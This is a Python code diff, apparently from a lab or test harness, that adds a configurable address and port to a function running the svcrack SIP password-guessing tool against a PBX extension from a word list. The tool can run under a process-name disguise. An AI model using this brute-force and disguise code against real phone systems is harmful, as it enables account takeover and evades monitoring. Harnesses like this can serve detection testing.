@@ -55,21 +55,29 @@ def enumerate_extensions(
 
 
 def crack_password(
-    host: Host, home: Path, extension: str, words: list[str], seconds: float = 20.0, disguise: str = DISGUISE
+    host: Host,
+    home: Path,
+    extension: str,
+    words: list[str],
+    seconds: float = 20.0,
+    disguise: str = DISGUISE,
+    at: tuple[str, int] = (PBX_ADDRESS, 5060),
 ) -> Attack:
-    """svcrack: guess the password of one extension from a word list."""
+    """svcrack: guess the password of one extension from a word list, at this address and port."""
     home.mkdir(parents=True, exist_ok=True)
     dictionary = home / "words.txt"
     dictionary.write_text("\n".join(words) + "\n")
-    options = ["-u", extension, "-d", str(dictionary), "-t", "0.005", "--maximumtime", "3"]
-    return _run(host, home, "svcrack", options, seconds, disguise)
+    options = ["-u", extension, "-d", str(dictionary), "-t", "0.005", "--maximumtime", "3", "-p", str(at[1])]
+    return _run(host, home, "svcrack", options, seconds, disguise, at[0])
 
 
-def _run(host: Host, home: Path, tool: str, options: list[str], seconds: float, disguise: str) -> Attack:
+def _run(
+    host: Host, home: Path, tool: str, options: list[str], seconds: float, disguise: str, server: str = PBX_ADDRESS
+) -> Attack:
     home.mkdir(parents=True, exist_ok=True)
     begun = time.monotonic()
     program = ["/usr/bin/python3", "-c", _DISGUISED, tool, disguise] if disguise else [tool]
-    argv = [*program, *options, "-b", host.address, "-x", host.address, PBX_ADDRESS]
+    argv = [*program, *options, "-b", host.address, "-x", host.address, server]
     command = host.command("env", f"HOME={home}", "COLUMNS=200", *argv)
     with subprocess.Popen(
         command, process_group=0, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
